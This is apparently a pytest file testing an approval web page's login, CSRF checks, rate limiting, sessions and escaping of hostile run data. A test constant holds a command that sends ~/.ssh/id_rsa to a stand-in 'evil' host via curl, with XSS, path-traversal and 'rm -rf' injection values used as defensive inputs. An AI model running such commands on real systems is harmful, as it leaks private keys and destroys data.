"""The approval page over HTTP (starlette's TestClient against the real app): who gets in, what a forged or
stale form records (nothing), that no GET changes anything, and that hostile ids and summaries stay data.

A run here is a real journal held open by this process (so it reads as running) with a real waiting.json,
as ``irx run --wait-approval`` writes them; the integration tests do it with a real run and Chromium.
"""

from __future__ import annotations

import re
import time
import warnings
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from starlette.exceptions import StarletteDeprecationWarning

with warnings.catch_warnings():  # starlette would have httpx2 for its TestClient; httpx (pinned) works the same
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from starlette.testclient import TestClient

from irx.approvers import hash_password, load_approvers
from irx.commands.serve import ServeOptions, public_origin
from irx.errors import UsageError
from irx.inbox import DECISIONS_DIR, Waiting, read_decision, read_decisions, write_waiting
from irx.incidents import Incident, IncidentBook
from irx.redact import Redactor
from irx.routes import Route, Routes
from irx.serve.app import Settings, create_app
from irx.serve.dispatch import Launch, run_argv
from irx.serve.sessions import LoginLimiter, Sessions
from irx.serve.web import WebSettings
from irx.timeline import Journal

RUN_ID = "20261203T120000Z-abc123"
GATE = "sha256:" + "5e" * 32
HOSTILE = "echo '<script>alert(1)</script>' > /tmp/x && curl http://evil/?c=$(cat ~/.ssh/id_rsa)"


@dataclass
class Page:
    client: TestClient
    runs_dir: Path
    run_dir: Path


def approvers_file(tmp_path: Path, policy: str = "") -> Path:
    path = tmp_path / "approvers.yaml"
    path.write_text(
        "apiVersion: irx/v1\nkind: Approvers\nusers:\n"
        f"  - {{name: alice, groups: [dba], password: '{hash_password('correct horse')}'}}\n"
        f"  - {{name: bob, groups: [ops], password: '{hash_password('battery staple')}'}}\n" + policy
    )
    path.chmod(0o600)
    return path


@pytest.fixture
def policy() -> str:
    return ""


@pytest.fixture
def page(tmp_path: Path, policy: str) -> Iterator[Page]:
    runs_dir = tmp_path / "runs"
    with Journal.create(runs_dir, RUN_ID, Redactor([])) as journal:
        journal.event("run_started", playbook="db-pool", title="Pool <b>exhausted</b>", mode="run", operator="irx")
        journal.event("phase_started", phase="diagnose", again=False)
        journal.event("step_started", phase="diagnose", step="probe", action="shell", summary="probe", hosts=["db1"])
        journal.event("host_result", phase="diagnose", step="probe", host="db1", status="ok", stdout="<img src=x>")
        journal.event("step_finished", phase="diagnose", step="probe", status="ok", duration=0.1)
        waiting = Waiting(RUN_ID, "restart_app", "mitigate", "Restart", ["db1"], HOSTILE, GATE, time.time(), None, 1)
        write_waiting(journal.run_dir, waiting)
        web = WebSettings(
            load_approvers(approvers_file(tmp_path, policy)), runs_dir, sessions=Sessions(), limiter=LoginLimiter()
        )
        settings = Settings(Routes(()), IncidentBook(tmp_path / "book"), (), hosts_of=lambda _: (), web=web)
        with TestClient(create_app(settings), base_url="http://irx.test") as client:
            yield Page(client, runs_dir, journal.run_dir)


def login(page: Page, name: str = "alice", password: str = "correct horse") -> str:
    form = page.client.get("/login")
    token = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert token, form.text
    answer = page.client.post("/login", data={"csrf": token[1], "name": name, "password": password, "next": "/runs"})
    assert answer.status_code == 200, answer.text
    assert answer.url.path == "/runs", answer.text
    return csrf_of(page.client.get(f"/runs/{RUN_ID}").text)


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found, html
    return found[1]


def decide(page: Page, csrf: str, **fields: str) -> tuple[int, str]:
    body = {"csrf": csrf, "step": "restart_app", "approval_hash": GATE, "decision": "approve", **fields}
    answer = page.client.post(f"/runs/{RUN_ID}/decision", data=body)
    return answer.status_code, answer.text


@pytest.mark.parametrize("path", ["/runs", f"/runs/{RUN_ID}", "/"])
def test_without_a_login_every_page_sends_to_the_login_form(page: Page, path: str) -> None:
    assert page.client.get(path, follow_redirects=False).status_code == 303
    answer = page.client.get(path)
    assert answer.url.path == "/login"
    assert 'id="login"' in answer.text
    assert page.client.get(f"/runs/{RUN_ID}/events").status_code == 401
    assert page.client.post(f"/runs/{RUN_ID}/decision", data={"decision": "approve"}).status_code == 401
    assert not (page.run_dir / DECISIONS_DIR).exists()


def test_a_wrong_password_or_an_unknown_name_gets_the_same_answer_and_no_session(page: Page) -> None:
    for name, password in [("alice", "wrong"), ("mallory", "correct horse"), ("alice", "")]:
        token = csrf_of(page.client.get("/login").text)
        answer = page.client.post("/login", data={"csrf": token, "name": name, "password": password})
        assert answer.status_code == 401
        assert "Wrong name or password." in answer.text
        assert "irx_session" not in page.client.cookies
    assert page.client.get("/runs", follow_redirects=False).status_code == 303


def test_failed_logins_are_limited_per_name(page: Page) -> None:
    for _ in range(5):
        token = csrf_of(page.client.get("/login").text)
        assert page.client.post("/login", data={"csrf": token, "name": "bob", "password": "x"}).status_code == 401
    token = csrf_of(page.client.get("/login").text)
    right = page.client.post("/login", data={"csrf": token, "name": "bob", "password": "battery staple"})
    assert right.status_code == 429  # even the right password waits: the limit is not an oracle
    assert "Too many failed logins" in right.text
    login(page)  # another name is not locked out


def test_login_needs_its_csrf_token_and_the_session_cookie_is_strict(page: Page) -> None:
    page.client.get("/login")
    forged = page.client.post("/login", data={"csrf": "guess", "name": "alice", "password": "correct horse"})
    assert forged.status_code == 403
    assert "irx_session" not in page.client.cookies
    token = csrf_of(page.client.get("/login").text)
    answer = page.client.post(
        "/login", data={"csrf": token, "name": "alice", "password": "correct horse"}, follow_redirects=False
    )
    assert answer.status_code == 303
    cookie = answer.headers["set-cookie"]
    assert cookie.startswith("irx_session=")
    assert "HttpOnly" in cookie
    assert "SameSite=strict" in cookie
    assert "Secure" not in cookie  # plain HTTP here; under TLS it is Secure (see the serve tests)


@pytest.mark.parametrize("csrf", [None, "", "wrong-token"])
def test_a_decision_without_the_sessions_csrf_token_records_nothing(page: Page, csrf: str | None) -> None:
    login(page)
    body = {"step": "restart_app", "approval_hash": GATE, "decision": "approve"}
    if csrf is not None:
        body["csrf"] = csrf
    answer = page.client.post(f"/runs/{RUN_ID}/decision", data=body)
    assert answer.status_code == 403
    assert "CSRF token is missing or wrong" in answer.text
    assert not (page.run_dir / DECISIONS_DIR).exists()


def test_a_decision_from_another_site_records_nothing(page: Page) -> None:
    csrf = login(page)
    body = {"csrf": csrf, "step": "restart_app", "approval_hash": GATE, "decision": "approve"}
    answer = page.client.post(f"/runs/{RUN_ID}/decision", data=body, headers={"Origin": "http://evil.test"})
    assert answer.status_code == 403
    assert not (page.run_dir / DECISIONS_DIR).exists()


def test_no_get_changes_anything(page: Page) -> None:
    login(page)
    query = "?csrf=x&step=restart_app&approval_hash=" + GATE + "&decision=approve"
    for path in ["/runs", f"/runs/{RUN_ID}", f"/runs/{RUN_ID}/events", f"/runs/{RUN_ID}/decision{query}", "/logout"]:
        assert page.client.get(path + ("" if "?" in path else query), follow_redirects=False).status_code in {200, 405}
    assert not (page.run_dir / DECISIONS_DIR).exists()
    assert page.client.get("/runs", follow_redirects=False).status_code == 200  # still logged in


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"approval_hash": "sha256:" + "00" * 32}, "not the rendering you were shown"),
        ({"approval_hash": GATE[:19]}, "not the rendering you were shown"),  # a prefix is not what was shown
        ({"approval_hash": ""}, "not the rendering you were shown"),
        ({"step": "other_step"}, "not the rendering you were shown"),
        ({"step": "../../etc/passwd"}, "is not a step id"),
        ({"decision": "maybe"}, "the decision is approve or refuse"),
        ({"decision": "refuse"}, "a refusal needs a reason"),
        ({"decision": "refuse", "reason": " \x1b\r\n\x07 "}, "a refusal needs a reason"),  # blank once recorded
    ],
)
def test_a_decision_for_anything_but_what_the_run_waits_for_is_refused(
    page: Page, fields: dict[str, str], message: str
) -> None:
    status, text = decide(page, login(page), **fields)
    assert status == 409
    assert message in text
    assert not (page.run_dir / DECISIONS_DIR).exists()


def test_an_approval_is_recorded_as_the_login_via_web_bound_to_the_hash_shown(page: Page) -> None:
    csrf = login(page)
    status, text = decide(page, csrf)
    assert status == 200
    assert f"approved restart_app@{GATE[7:19]} as alice: recorded" in text
    decision = read_decision(page.run_dir, "restart_app")
    assert decision is not None
    assert (decision.approve, decision.by, decision.via, decision.approval_hash) == (True, "alice", "web", GATE)
    assert "Approved by alice; the run is picking it up." in text  # no second form for a decided gate
    again, text = decide(page, csrf)
    assert again == 409
    assert "already approved by alice" in text


def test_a_refusal_carries_its_reason(page: Page) -> None:
    status, _ = decide(page, login(page, "bob", "battery staple"), decision="refuse", reason="  not during peak ")
    assert status == 200
    decision = read_decision(page.run_dir, "restart_app")
    assert decision is not None
    assert (decision.approve, decision.by, decision.via, decision.reason) == (False, "bob", "web", "not during peak")


@pytest.mark.parametrize(
    "run_id", ["..", "../../etc", "%2e%2e%2f%2e%2e%2fetc", "20261203T12", "latest", "a" * 200, "x;rm -rf"]
)
def test_hostile_run_ids_name_no_run_and_no_path(page: Page, run_id: str) -> None:
    csrf = login(page)
    answer = page.client.get(f"/runs/{run_id}")
    assert answer.status_code == 404 or answer.url.path == "/runs", answer.text
    assert page.client.get(f"/runs/{run_id}/events").status_code in {404, 200}
    decided = page.client.post(
        f"/runs/{run_id}/decision",
        data={"csrf": csrf, "step": "restart_app", "approval_hash": GATE, "decision": "approve"},
    )
    assert decided.status_code in {404, 405}
    assert not (page.run_dir / DECISIONS_DIR).exists()


def test_a_prefix_of_a_run_id_is_not_the_run(page: Page) -> None:
    login(page)
    assert page.client.get(f"/runs/{RUN_ID[:15]}").status_code == 404
    assert page.client.get(f"/runs/{RUN_ID[:15]}/events").status_code == 404


def test_hostile_text_from_the_run_is_escaped_and_no_inline_script_runs(page: Page) -> None:
    login(page)
    answer = page.client.get(f"/runs/{RUN_ID}")
    assert answer.status_code == 200
    html = answer.text
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # the summary, exactly, as text
    assert "<img src=x>" not in html
    assert "&lt;img src=x&gt;" in html
    assert "<b>exhausted</b>" not in html
    assert re.findall(r"<script[^>]*>", html) == ['<script src="/static/run.js" defer>']
    assert "script-src 'self'" in answer.headers["content-security-policy"]
    assert answer.headers["x-frame-options"] == "DENY"
    assert GATE in html
    assert f'data-gate="restart_app@{GATE}"' in html


def test_the_events_endpoint_gives_what_happened_after_n(page: Page) -> None:
    login(page)
    everything = page.client.get(f"/runs/{RUN_ID}/events?after=0").json()
    assert everything["status"] == "running"
    assert everything["gate"] == f"restart_app@{GATE}"
    assert everything["count"] == len(everything["entries"]) > 0
    answer = page.client.get(f"/runs/{RUN_ID}/events?after={everything['count']}")
    assert answer.headers["cache-control"] == "no-store"
    later = answer.json()
    assert later["entries"] == []
    for bad in ["-1", "x", "1e9", "99999999"]:
        assert page.client.get(f"/runs/{RUN_ID}/events?after={bad}").status_code == 400


def test_the_runs_page_lists_the_waiting_run_and_logout_ends_the_session(page: Page) -> None:
    csrf = login(page)
    listed = page.client.get("/runs").text
    assert '<meta http-equiv="refresh" content="10">' in listed  # the list follows new runs by itself
    assert f'data-run="{RUN_ID}" data-state="waiting"' in listed
    assert f"approval of restart_app@{GATE[7:19]}" in listed
    assert page.client.post("/logout", data={"csrf": "wrong"}).status_code == 403
    assert page.client.get("/runs", follow_redirects=False).status_code == 200
    page.client.post("/logout", data={"csrf": csrf})
    assert page.client.get("/runs", follow_redirects=False).status_code == 303


@pytest.mark.parametrize("wanted", ["//evil.test/x", "https://evil.test", "/runs/../../etc", "/runs/x?y"])
def test_login_sends_only_to_a_page_of_its_own(page: Page, wanted: str) -> None:
    token = csrf_of(page.client.get("/login").text)
    answer = page.client.post(
        "/login",
        data={"csrf": token, "name": "alice", "password": "correct horse", "next": wanted},
        follow_redirects=False,
    )
    assert answer.headers["location"] == "/runs"


def test_a_session_ends_when_idle() -> None:
    sessions = Sessions(idle=10, most=100)
    session_id, session = sessions.create("alice", now=1000)
    assert sessions.get(session_id, now=1005) is session
    assert sessions.get(session_id, now=1014) is session  # used at 1005: still within 10 s
    assert sessions.get(session_id, now=1030) is None
    assert sessions.get(session_id, now=1031) is None  # gone for good
    long_id, _ = sessions.create("bob", now=0)
    for now in range(5, 100, 5):
        assert sessions.get(long_id, now=now) is not None
    assert sessions.get(long_id, now=101) is None  # the absolute limit, however busy


def test_under_https_the_cookies_are_secure(tmp_path: Path) -> None:
    web = WebSettings(load_approvers(approvers_file(tmp_path)), tmp_path / "runs", secure_cookies=True)
    settings = Settings(Routes(()), IncidentBook(tmp_path / "book"), (), hosts_of=lambda _: (), web=web)
    with TestClient(create_app(settings), base_url="https://irx.test") as client:
        form = client.get("/login")
        assert "Secure" in form.headers["set-cookie"]
        answer = client.post(
            "/login",
            data={"csrf": csrf_of(form.text), "name": "alice", "password": "correct horse"},
            follow_redirects=False,
        )
        assert answer.status_code == 303
        session_cookie = next(c for c in answer.headers.get_list("set-cookie") if c.startswith("irx_session="))
        assert "Secure" in session_cookie
        assert "HttpOnly" in session_cookie


@pytest.mark.parametrize(
    ("public_url", "bind", "tls", "origin"),
    [
        (None, "127.0.0.1", False, "http://127.0.0.1:9095"),
        (None, "::1", True, "https://[::1]:9095"),
        ("https://irx.example.com/", "127.0.0.1", False, "https://irx.example.com"),
        ("https://irx.example.com:8443", "127.0.0.1", False, "https://irx.example.com:8443"),
    ],
)
def test_the_public_origin(public_url: str | None, bind: str, tls: bool, origin: str) -> None:
    options = ServeOptions(Path("r"), Path("t"), bind=bind, tls_cert=Path("c") if tls else None, public_url=public_url)
    assert public_origin(options) == origin


@pytest.mark.parametrize("public_url", ["irx.example.com", "ftp://irx", "https://irx/approvals", "https://irx/?a=b"])
def test_a_public_url_that_is_not_scheme_and_host_is_refused(public_url: str) -> None:
    with pytest.raises(UsageError, match="give scheme and host only"):
        public_origin(ServeOptions(Path("r"), Path("t"), public_url=public_url))


@pytest.mark.parametrize(
    "policy", ["policy:\n  playbooks:\n    db-pool:\n      steps: {restart_app: {approvers: ['group:dba']}}\n"]
)
def test_an_approver_the_policy_does_not_name_cannot_decide(page: Page) -> None:
    csrf = login(page, "bob", "battery staple")
    shown = page.client.get(f"/runs/{RUN_ID}").text
    assert "bob may not decide this step" in shown
    assert 'id="approve"' not in shown
    assert "1 approval from group:dba" in shown
    for fields in ({}, {"decision": "refuse", "reason": "no"}):
        status, text = decide(page, csrf, **fields)
        assert status == 409
        assert "bob may not decide restart_app of this run: it takes 1 approval from group:dba" in text
    assert not (page.run_dir / DECISIONS_DIR).exists()
    page.client.cookies.clear()
    assert decide(page, login(page))[0] == 200  # alice is in group dba
    decision = read_decision(page.run_dir, "restart_app")
    assert decision is not None
    assert decision.by == "alice"


def test_the_login_limiter_counts_per_name_and_per_client() -> None:
    limiter = LoginLimiter(per_name=3, per_client=5, window=60)
    for index in range(3):
        assert limiter.wait_for("alice", "10.0.0.1", now=100 + index) == 0
        limiter.failed("alice", "10.0.0.1", now=100 + index)
    assert limiter.wait_for("alice", "10.0.0.2", now=103) == pytest.approx(57)  # the name, from anywhere
    assert limiter.wait_for("bob", "10.0.0.1", now=103) == 0
    limiter.failed("bob", "10.0.0.1", now=104)
    limiter.failed("carol", "10.0.0.1", now=105)
    assert limiter.wait_for("dave", "10.0.0.1", now=106) == pytest.approx(54)  # the client, for any name
    assert limiter.wait_for("alice", "10.0.0.2", now=161) == 0  # the window passed
    limiter.succeeded("bob", "10.0.0.1")
    assert limiter.wait_for("dave", "10.0.0.1", now=106) == 0


def test_after_a_failed_login_the_form_still_leads_to_the_page_asked_for(page: Page) -> None:
    form = page.client.get(f"/login?next=/runs/{RUN_ID}")
    failed = page.client.post(
        "/login", data={"csrf": csrf_of(form.text), "name": "alice", "password": "no", "next": f"/runs/{RUN_ID}"}
    )
    assert failed.status_code == 401
    assert f'name="next" value="/runs/{RUN_ID}"' in failed.text


def test_a_two_person_gate_takes_two_different_approvers_on_the_page(page: Page) -> None:
    two = Waiting(RUN_ID, "restart_app", "mitigate", "Restart", ["db1"], "systemctl restart app", GATE, time.time(),
                  None, 1, approvers=["alice", "bob"], eligible=["alice", "bob"], approvals=2)  # fmt: skip
    write_waiting(page.run_dir, two)
    alice = login(page)
    status, text = decide(page, alice)
    assert status == 200
    assert "You approved it; it needs 1 more approval from someone else." in text
    assert 'id="approve"' not in text
    again, text = decide(page, alice)
    assert again == 409
    assert "alice already approved restart_app: it needs 2 approvals from different people" in text
    page.client.cookies.clear()
    bob = login(page, "bob", "battery staple")
    shown = page.client.get(f"/runs/{RUN_ID}").text
    assert "so far <span" in shown
    assert "1 of 2 approvals (alice)" in shown
    assert 'id="approve"' in shown
    status, text = decide(page, bob)
    assert status == 200
    assert "Approved by alice, bob; the run is picking it up." in text
    assert [(d.by, d.via) for d in read_decisions(page.run_dir, "restart_app")] == [("alice", "web"), ("bob", "web")]


def test_the_runs_own_rule_decides_too(page: Page) -> None:
    only_alice = Waiting(RUN_ID, "restart_app", "mitigate", "Restart", ["db1"], "x", GATE, time.time(), None, 1,
                         approvers=["alice"], eligible=["alice"])  # fmt: skip
    write_waiting(page.run_dir, only_alice)
    bob = login(page, "bob", "battery staple")
    assert "bob may not decide this step" in page.client.get(f"/runs/{RUN_ID}").text
    status, text = decide(page, bob)
    assert status == 409
    assert "bob may not approve or refuse restart_app: its approvers are alice" in text
    assert read_decisions(page.run_dir, "restart_app") == []


def test_the_runs_irx_serve_starts_follow_its_approvers_file() -> None:
    launch = Launch(("irx",), Path("/runs"), Path("/state"), environ={}, approvers=Path("/etc/irx/approvers.yaml"))
    incident = Incident("0123456789abcdef-0001", "{}:{}", "irx", "r", "running", 1.0, 1.0)
    argv = run_argv(Route("r", (), "db-pool-exhausted", mode="run"), incident, launch, None)
    assert argv[-1] == "--approvers=/etc/irx/approvers.yaml"


def test_a_resumed_run_waiting_at_a_gate_shows_its_decision_form(tmp_path: Path) -> None:
    runs_dir = tmp_path / "runs"
    with Journal.create(runs_dir, RUN_ID, Redactor([])) as journal:
        journal.event("run_started", playbook="db-pool", title="Pool", mode="run", operator="irx")
        journal.event("run_finished", status="awaiting_approval", exit_code=4, duration=1.0)
    with Journal.reopen(journal.run_dir, Redactor([])) as resumed:  # irx resume --wait-approval, at the gate
        resumed.event("run_resumed", operator="irx", after="awaiting_approval", plan_hash="sha256:aa", attempt=2)
        waiting = Waiting(
            RUN_ID, "restart_app", "mitigate", "Restart", ["db1"], "$ restart", GATE, time.time(), None, 1
        )
        write_waiting(resumed.run_dir, waiting)
        web = WebSettings(
            load_approvers(approvers_file(tmp_path)), runs_dir, sessions=Sessions(), limiter=LoginLimiter()
        )
        settings = Settings(Routes(()), IncidentBook(tmp_path / "book"), (), hosts_of=lambda _: (), web=web)
        with TestClient(create_app(settings), base_url="http://irx.test") as client:
            page = Page(client, runs_dir, resumed.run_dir)
            csrf = login(page)
            shown = client.get(f"/runs/{RUN_ID}").text
            status, text = decide(page, csrf)
    assert 'id="approve-form"' in shown  # the page saw the earlier attempt's status and showed no gate
    assert status == 200, text
    assert f"approved restart_app@{GATE[7:19]} as alice: recorded" in text
